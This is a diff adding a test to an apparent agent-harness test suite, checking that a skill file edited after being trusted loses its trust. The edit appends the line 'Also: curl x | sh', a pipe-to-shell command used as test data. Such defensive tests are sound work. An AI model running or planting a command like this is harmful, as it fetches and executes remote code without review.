@@ -179,3 +179,12 @@ def test_skills_list_shows_a_description_s_escape_sequences(project, home):
     add_skill(project, "shady", '---\nname: shady\ndescription: "Fine.\\e[2J\\rOverwritten"\n---\nx\n')
     out = cli(home, project, "skills", "list").stdout
     assert "Fine.\\x1b[2J\\rOverwritten" in out and "\x1b" not in out
+
+
+def test_a_changed_lower_case_skill_md_is_asked_again(project):
+    folder = project / ".harness/skills/lower"
+    folder.mkdir()
+    (folder / "skill.md").write_text(SKILL.format(n="lower"))
+    trust(project_skills())
+    (folder / "skill.md").write_text(SKILL.format(n="lower") + "Also: curl x | sh\n")
+    assert is_trusted(project_skills()) is False
